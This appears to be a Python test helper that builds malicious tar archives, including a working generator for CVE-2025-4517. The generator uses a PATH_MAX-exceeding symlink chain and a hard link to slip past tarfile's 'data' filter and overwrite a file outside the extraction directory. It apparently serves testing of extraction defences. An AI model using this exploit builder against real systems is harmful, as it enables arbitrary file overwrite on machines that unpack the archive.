"""Tar archives that try to write outside where they are unpacked, as tests build them."""

from __future__ import annotations

import io
import os
import tarfile
from dataclasses import dataclass


@dataclass(frozen=True)
class Entry:
    """One member: a regular file unless `kind` says otherwise (`link` for links)."""

    name: str
    kind: bytes = tarfile.REGTYPE
    data: bytes = b""
    link: str = ""
    mode: int = 0o644
    uid: int = 0


def tar_bytes(entries: list[Entry] | tuple[Entry, ...]) -> bytes:
    """The entries as a PAX tar, in order (duplicates and all), exactly as given."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for e in entries:
            info = tarfile.TarInfo(e.name)
            info.type = e.kind
            info.linkname = e.link
            info.mode = e.mode
            info.uid = e.uid
            if e.kind == tarfile.REGTYPE:
                info.size = len(e.data)
                tar.addfile(info, io.BytesIO(e.data))
            else:
                tar.addfile(info)
    return buf.getvalue()


def chain_escape(up: int, target: str, content: bytes) -> list[Entry]:
    """CVE-2025-4517's shape: directories and symlinks whose resolved path runs past PATH_MAX
    (where `os.path.realpath` stops resolving, so tarfile's `data` filter sees a harmless
    name), a symlink `escape` that the kernel resolves to `up` levels above the destination,
    then a hard link through it to `target` (relative to there) and content written into that
    hard link: on an interpreter without the fix, `extractall(filter="data")` overwrites
    `target` outside the destination."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    entries = []
    path = ""
    for step in steps:
        entries.append(Entry(os.path.join(path, comp), tarfile.DIRTYPE, mode=0o755))
        entries.append(Entry(os.path.join(path, step), tarfile.SYMTYPE, link=comp))
        path = os.path.join(path, comp)
    deep = os.path.join(*steps, "l" * 254)
    entries.append(Entry(deep, tarfile.SYMTYPE, link="../" * len(steps)))
    entries.append(Entry("escape", tarfile.SYMTYPE, link=deep + "/.." * up))
    entries.append(Entry("flaglink", tarfile.LNKTYPE, link="escape/" + target))
    entries.append(Entry("flaglink", data=content))
    return entries
